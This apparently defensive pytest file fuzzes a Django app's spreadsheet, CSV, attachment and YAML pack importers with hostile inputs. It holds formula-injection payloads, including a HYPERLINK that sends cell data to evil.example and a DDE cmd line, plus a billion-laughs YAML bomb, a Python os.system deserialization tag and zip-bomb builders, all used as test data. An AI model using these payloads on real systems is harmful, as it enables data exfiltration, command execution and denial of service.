"""Hostile files (issue 15): the register import, the scenario and path library import, the criteria pack
loader and the attachment check, fed broken bytes, broken encodings, formulas, zip bombs and truncated
workbooks.

The property every importer keeps, whatever the bytes: a clean answer (a per-row report, or one file-level
reason in Chinese), never an exception, and nothing written unless the whole file is good. Hypothesis runs
derandomised (the same examples every run), so a failure is a bug, never bad luck.
"""

from __future__ import annotations

import io
import re
import shutil
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tidu.core.testing import make_user
from tidu.enterprises import imports
from tidu.enterprises.exports import enterprises_export_csv, enterprises_export_xlsx
from tidu.enterprises.imports import enterprises_import, problems_workbook
from tidu.enterprises.io_samples import rows_to_csv, rows_to_xlsx, sample_rows
from tidu.enterprises.models import Enterprise, EnterpriseYear
from tidu.journey.errors import JourneyError
from tidu.journey.storage import check_upload
from tidu.rules.errors import PackError
from tidu.rules.loader import repo_packs_dir
from tidu.rules.packs import load_packs
from tidu.scenarios.models import IndustryPath, Scenario
from tidu.scenarios.services import PATH_COLUMNS, SCENARIO_COLUMNS, library_import

pytestmark = pytest.mark.django_db

SHENZHEN = ["440305", "440304"]
CHINESE = re.compile(r"[\u4e00-\u9fff]")
FUZZ = settings(max_examples=40, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.data_too_large])


@pytest.fixture
def official() -> Any:
    return make_user("sz-city", "government", level="city", region="440300")


def register_state() -> tuple[list[Any], list[Any]]:
    """Everything an import could write (firms and their years), to prove a refused file wrote nothing."""
    return (list(Enterprise.objects.order_by("pk").values_list()),
            list(EnterpriseYear.objects.order_by("pk").values_list()))


def assert_clean_answer(result: Any, before: Any) -> None:
    """A good file is imported; anything else is refused whole, each reason in Chinese, nothing written."""
    if result.ok:
        assert not result.problems
        return
    assert result.problems, "a refused file must say why"
    for problem in result.problems:
        assert CHINESE.search(problem.message), problem
    assert register_state() == before, "a refused file wrote to the register"


def sample_xlsx(firms: int = 3) -> bytes:
    return rows_to_xlsx(sample_rows(firms=firms, years=[2024], region_codes=SHENZHEN))


def sample_csv(firms: int = 3) -> bytes:
    return rows_to_csv(sample_rows(firms=firms, years=[2024], region_codes=SHENZHEN))


# ---- any bytes, mutated workbooks, broken encodings ---------------------------------------------------


@FUZZ
@given(content=st.binary(max_size=2048), name=st.sampled_from(["a.csv", "a.xlsx", "a.xls", "a.xlsm", "a.txt"]))
def test_any_bytes_get_a_clean_answer(official: Any, content: bytes, name: str) -> None:
    before = register_state()
    assert_clean_answer(enterprises_import(user=official, content=content, filename=name), before)


BASE_XLSX = sample_xlsx()


@FUZZ
@given(edits=st.lists(st.tuples(st.integers(0, len(BASE_XLSX) - 1), st.integers(0, 255)), min_size=1, max_size=8),
       cut=st.one_of(st.none(), st.integers(0, len(BASE_XLSX) - 1)))
def test_a_damaged_or_truncated_workbook_gets_a_clean_answer(official: Any, edits: list[tuple[int, int]],
                                                            cut: int | None) -> None:
    content = bytearray(BASE_XLSX)
    for position, value in edits:
        content[position] = value
    before = register_state()
    result = enterprises_import(user=official, content=bytes(content[:cut]), filename="导入.xlsx")
    assert_clean_answer(result, before)


def test_every_truncation_of_a_workbook_is_refused_as_a_file(official: Any) -> None:
    for cut in range(0, len(BASE_XLSX), max(1, len(BASE_XLSX) // 25)):
        result = enterprises_import(user=official, content=BASE_XLSX[:cut], filename="导入.xlsx")
        assert not result.ok and [p.code for p in result.problems] == ["file_unreadable"], cut
        assert "损坏" in result.problems[0].message or "空的" in result.problems[0].message
    assert Enterprise.objects.count() == 0


ENCODINGS = ["utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16", "utf-16-le", "big5", "latin-1"]


@FUZZ
@given(cells=st.lists(st.text(max_size=40), min_size=1, max_size=6), encoding=st.sampled_from(ENCODINGS),
       column=st.integers(0, 8))
def test_any_text_in_any_encoding_gets_a_clean_answer(official: Any, cells: list[str], encoding: str,
                                                      column: int) -> None:
    """Hostile cells (quotes, line breaks, NUL, formulas, surrogates) in a real file, saved in whatever encoding."""
    text = sample_csv().decode("utf-8-sig")
    lines = text.splitlines()
    fields = lines[1].split(",")
    fields[column:column + 1] = ['"' + c.replace('"', '""') + '"' for c in cells]
    lines[1] = ",".join(fields)
    content = "\n".join(lines).encode(encoding, errors="replace")
    before = register_state()
    assert_clean_answer(enterprises_import(user=official, content=content, filename="导入.csv"), before)


def test_a_gbk_csv_is_imported_like_a_utf8_one(official: Any) -> None:
    rows = sample_rows(firms=2, years=[2024], region_codes=SHENZHEN)
    result = enterprises_import(user=official, content=rows_to_csv(rows, encoding="gbk"), filename="导入.csv")
    assert result.ok, [p.message for p in result.problems]
    assert set(Enterprise.objects.values_list("name", flat=True)) == {r["name"] for r in rows}


def test_a_utf16_file_is_refused_with_what_to_do(official: Any) -> None:
    content = sample_csv().decode("utf-8-sig").replace(",", "\t").encode("utf-16")
    result = enterprises_import(user=official, content=content, filename="导入.csv")
    assert not result.ok and "UTF-16" in result.problems[0].message and "CSV UTF-8" in result.problems[0].message


# ---- formulas: stored as text or refused, never evaluated; exported disarmed --------------------------


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_typed_as_a_name_is_refused_by_row_and_column(official: Any, formula: str) -> None:
    rows = sample_rows(firms=2, years=[2024], region_codes=SHENZHEN)
    rows[1]["name"] = formula
    result = enterprises_import(user=official, content=rows_to_csv(rows), filename="导入.csv")
    [problem] = result.problems
    assert (problem.row, problem.code) == (3, "formula_prefix") and problem.column
    assert Enterprise.objects.count() == 0


def test_a_real_formula_cell_is_never_evaluated(official: Any) -> None:
    """A workbook whose name and money cells are formulas without a cached result (as a script writes them):
    the importer reads what Excel saved, never computes the formula: the cells are refused, not run."""
    rows = sample_rows(firms=2, years=[2024], region_codes=SHENZHEN)
    workbook = openpyxl.load_workbook(io.BytesIO(rows_to_xlsx(rows)))
    sheet = workbook.worksheets[0]
    headers = [c.value for c in sheet[1]]
    name_col = next(i for i, h in enumerate(headers, start=1) if h and "名称" in str(h))
    sheet.cell(row=2, column=name_col, value=FORMULAS[0])
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = enterprises_import(user=official, content=buffer.getvalue(), filename="导入.xlsx")
    assert not result.ok and any(p.row == 2 for p in result.problems)
    assert not Enterprise.objects.filter(name__contains="HYPERLINK").exists()


def test_stored_formula_text_leaves_every_export_disarmed(official: Any) -> None:
    """Names stored before they were checked come back as text in the CSV, the workbook and the problem report."""
    rows = sample_rows(firms=len(FORMULAS), years=[2024], region_codes=SHENZHEN)
    assert enterprises_import(user=official, content=rows_to_csv(rows), filename="导入.csv").ok
    for firm, formula in zip(Enterprise.objects.order_by("credit_code"), FORMULAS, strict=True):
        Enterprise.objects.filter(pk=firm.pk).update(name=formula)  # as an old row or another path could hold it
    text = "".join(enterprises_export_csv(user=official))
    for formula in FORMULAS:
        assert f"'{formula}" in text.replace('""', '"')
    for line in text.splitlines()[1:]:
        for cell in next(iter(__import__("csv").reader([line]))):
            assert not cell.startswith(("=", "+", "@")) and not re.match(r"-[^\d]", cell), cell
    workbook = openpyxl.load_workbook(io.BytesIO(enterprises_export_xlsx(user=official)))
    cells = [c for row in workbook.worksheets[0].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    report = openpyxl.load_workbook(io.BytesIO(problems_workbook(
        [imports.Problem(2, "企业名称", f, "不能以 = 开头", "formula_prefix") for f in FORMULAS], [])))
    assert not [c.coordinate for row in report.worksheets[0].iter_rows() for c in row if c.data_type == "f"]


# ---- zip bombs and huge parts: refused from the zip directory, before anything is unpacked -------------


def _declaring(xlsx: bytes, member: str, size: int) -> bytes:
    """The workbook with one part's directory entry declaring `size` bytes unpacked (a forged entry)."""
    source, target = zipfile.ZipFile(io.BytesIO(xlsx)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            out.writestr(item, source.read(item))
        for info in out.infolist():
            if info.filename == member:
                info.file_size = size
    return target.getvalue()


def _with_part(xlsx: bytes, member: str, chunks: int, chunk: bytes) -> bytes:
    """The workbook with one part replaced by `chunks` × `chunk`, deflated as it is written (a real bomb)."""
    source, target = zipfile.ZipFile(io.BytesIO(xlsx)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            if item.filename != member:
                out.writestr(item, source.read(item))
        info = zipfile.ZipInfo(member)
        info.compress_type = zipfile.ZIP_DEFLATED
        with out.open(info, "w", force_zip64=True) as handle:
            for _ in range(chunks):
                handle.write(chunk)
    return target.getvalue()


@pytest.fixture
def no_unpacking(monkeypatch: pytest.MonkeyPatch) -> Any:
    """Fails the test if openpyxl opened the workbook (the importer would report a damaged file either way)."""
    opened: list[Any] = []
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *args, **kwargs: opened.append(args))
    yield
    assert not opened, "the workbook was opened before its sizes were checked"


@pytest.mark.parametrize("member", ["xl/theme/theme1.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml"])
def test_a_part_declaring_gigabytes_is_refused_unread(official: Any, no_unpacking: None, member: str) -> None:
    content = _declaring(BASE_XLSX, member, 3 << 30)  # under 4 GB: no zip64 entry needed
    result = enterprises_import(user=official, content=content, filename="导入.xlsx")
    [problem] = result.problems
    assert problem.code == "file_unreadable" and "解压后过大" in problem.message and member in problem.message
    assert "MB" in problem.message


def test_a_real_zip_bomb_is_refused_by_its_ratio(official: Any, no_unpacking: None) -> None:
    content = _with_part(BASE_XLSX, "xl/sharedStrings.xml", 24, b" " * (1 << 20))  # 24 MB in ~25 KB
    assert len(content) < 200_000
    result = enterprises_import(user=official, content=content, filename="导入.xlsx")
    [problem] = result.problems
    assert "压缩炸弹" in problem.message and f"{imports.MAX_XLSX_RATIO} 倍" in problem.message


def test_a_workbook_of_many_tiny_parts_is_refused(official: Any, no_unpacking: None,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(imports, "MAX_XLSX_MEMBERS", 30)
    source, target = zipfile.ZipFile(io.BytesIO(BASE_XLSX)), io.BytesIO()
    with zipfile.ZipFile(target, "w") as out:
        for item in source.infolist():
            out.writestr(item, source.read(item))
        for i in range(40):
            out.writestr(f"xl/media/x{i}.bin", b"")
    result = enterprises_import(user=official, content=target.getvalue(), filename="导入.xlsx")
    assert "上限 30" in result.problems[0].message


def test_an_ordinary_workbook_passes_the_size_check(official: Any) -> None:
    assert enterprises_import(user=official, content=BASE_XLSX, filename="导入.xlsx").ok


def test_a_file_with_the_wrong_extension_is_read_by_what_it_is_or_refused(official: Any) -> None:
    # a workbook named .csv is not read as text into the register; a CSV named .xlsx is not a workbook
    for content, name in ((BASE_XLSX, "导入.csv"), (sample_csv(), "导入.xlsx"), (b"%PDF-1.7\n", "导入.xlsx")):
        result = enterprises_import(user=official, content=content, filename=name)
        assert not result.ok and CHINESE.search(result.problems[0].message), name
    assert Enterprise.objects.count() == 0


# ---- the scenario and path library import ----------------------------------------------------------


def _library_csv(spec: dict[str, tuple[str, bool]], cells: list[str]) -> bytes:
    headers = list(spec)
    row = (cells * len(headers))[:len(headers)]
    buffer = io.StringIO()
    __import__("csv").writer(buffer).writerows([headers, row])
    return buffer.getvalue().encode("utf-8")


@FUZZ
@given(kind=st.sampled_from(["scenarios", "paths"]), cells=st.lists(st.text(max_size=400), min_size=1, max_size=5),
       as_bytes=st.one_of(st.none(), st.binary(max_size=512)))
def test_any_library_file_gets_a_clean_answer(official: Any, kind: str, cells: list[str],
                                              as_bytes: bytes | None) -> None:
    spec = SCENARIO_COLUMNS if kind == "scenarios" else PATH_COLUMNS
    content = as_bytes if as_bytes is not None else _library_csv(spec, cells)
    before = (list(Scenario.objects.values_list()), list(IndustryPath.objects.values_list()))
    result = library_import(actor=official, kind=kind, content=content, filename="库.csv")
    if not result.ok:
        assert result.problems and all(CHINESE.search(p.message) for p in result.problems)
        assert (list(Scenario.objects.values_list()), list(IndustryPath.objects.values_list())) == before


def test_an_over_long_path_field_is_reported_not_crashed(official: Any) -> None:
    cells = {"编号": "P-" + "长" * 40, "细分行业": "仪" * 150, "行业大类": "C40", "适用行业代码": "C40",
             "推荐场景编号": "S41," * 120, "阶段等级": "1", "阶段名称": "数据上线", "重点任务": "检测数据电子化"}
    buffer = io.StringIO()
    writer = __import__("csv").writer(buffer)
    writer.writerows([list(PATH_COLUMNS), [cells.get(h, "") for h in PATH_COLUMNS]])
    result = library_import(actor=official, kind="paths", content=buffer.getvalue().encode(), filename="路径.csv")
    assert not result.ok
    assert {p.column for p in result.problems} >= {"编号", "细分行业", "推荐场景编号"}
    assert IndustryPath.objects.count() == 0


# ---- attachments --------------------------------------------------------------------------------------


MAGIC = [b"", b"%PDF-", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"PK\x03\x04"]


@FUZZ
@given(name=st.text(max_size=200), magic=st.sampled_from(MAGIC), body=st.binary(max_size=512))
def test_any_attachment_is_accepted_as_what_it_is_or_refused_in_chinese(name: str, magic: bytes,
                                                                        body: bytes) -> None:
    try:
        checked = check_upload(name, magic + body)
    except JourneyError as exc:
        assert CHINESE.search(exc.message)
    else:
        assert checked.content_type in {"application/pdf", "image/png", "image/jpeg"}
        assert (magic + body).startswith({"application/pdf": b"%PDF-", "image/png": b"\x89PNG",
                                          "image/jpeg": b"\xff\xd8\xff"}[checked.content_type])


def test_a_workbook_or_zip_renamed_to_pdf_is_refused() -> None:
    for name, data in (("材料.pdf", BASE_XLSX), ("材料.pdf", b"PK\x03\x04" + b"\x00" * 64), ("材料.png", b"%PDF-1.7")):
        with pytest.raises(JourneyError) as refused:
            check_upload(name, data)
        assert refused.value.journey_code == "attachment_type"


# ---- the criteria pack loader -----------------------------------------------------------------------


PACK_SOURCE = sorted((repo_packs_dir() / "tech_sme").glob("*.yaml"))[0]
PACK_TEXT = PACK_SOURCE.read_text(encoding="utf-8")
BOMB = "".join(f"{a}: &{a} [{', '.join([f'*{p}'] * 9)}]\n" for p, a in zip("abcdefgh", "bcdefghi", strict=True))


def _pack_tree(tmp: Path, text: str) -> Path:
    root = tmp / "packs"
    (root / "tech_sme").mkdir(parents=True, exist_ok=True)
    shutil.copy(repo_packs_dir() / "derived.yaml", root / "derived.yaml")
    (root / "tech_sme" / PACK_SOURCE.name).write_text(text, encoding="utf-8", errors="surrogatepass")
    return root


@pytest.mark.parametrize("text", [
    "a: &a [x, x, x, x, x, x, x, x, x]\n" + BOMB + PACK_TEXT,  # billion laughs beside the pack
    PACK_TEXT.replace("title:", "title: &t [x, x]\nignored: *t\ntitle:", 1),
    PACK_TEXT + "\nconditions: " + "[" * 5000 + "\n",  # nesting past libyaml's limit
    "\x00" + PACK_TEXT,
    "!!python/object/apply:os.system ['echo owned']\n",
    PACK_TEXT[: len(PACK_TEXT) // 2],
    "",
])
def test_a_hostile_pack_file_is_refused_with_file_and_reason(tmp_path: Path, text: str) -> None:
    with pytest.raises(PackError) as refused:
        load_packs(_pack_tree(tmp_path, text), cache=False)
    assert PACK_SOURCE.name in str(refused.value) and CHINESE.search(str(refused.value))


@settings(max_examples=25, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(line=st.integers(0, PACK_TEXT.count("\n")), insert=st.text(max_size=60))
def test_any_edit_of_a_pack_loads_or_is_refused_as_a_pack_error(tmp_path: Path, line: int, insert: str) -> None:
    lines = PACK_TEXT.splitlines()
    lines.insert(line, insert)
    try:
        load_packs(_pack_tree(tmp_path, "\n".join(lines)), cache=False)
    except PackError as refused:
        assert CHINESE.search(str(refused))
